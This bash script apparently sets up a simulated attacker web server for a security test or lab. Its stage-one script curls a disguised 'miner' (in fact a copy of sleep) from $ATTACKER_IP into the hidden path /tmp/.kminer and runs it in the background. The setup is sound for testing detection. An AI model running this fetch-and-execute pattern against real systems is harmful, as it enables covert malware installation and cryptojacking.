#!/usr/bin/env bash
# The attacker's web root: x.sh (the stage-one script) and payload (a "miner": a copy of sleep).
set -euo pipefail
www="$STATE/www"
mkdir -p "$www"
cp /usr/bin/sleep "$www/payload"
cat >"$www/x.sh" <<SH
curl -fsS -o /tmp/.kminer http://$ATTACKER_IP:8000/payload
chmod +x /tmp/.kminer
/tmp/.kminer 600 &
echo \$! >$STATE/payload.pid
SH
rm -f /tmp/.kminer
ip netns exec attacker setsid python3 -m http.server -b "$ATTACKER_IP" -d "$www" 8000 \
  >"$STATE/http.log" 2>&1 </dev/null &
for _ in $(seq 40); do
  ip netns exec attacker ss -ltn | grep -q ':8000 ' && exit 0
  sleep 0.25
done
echo "the attacker's http.server did not start"
exit 1
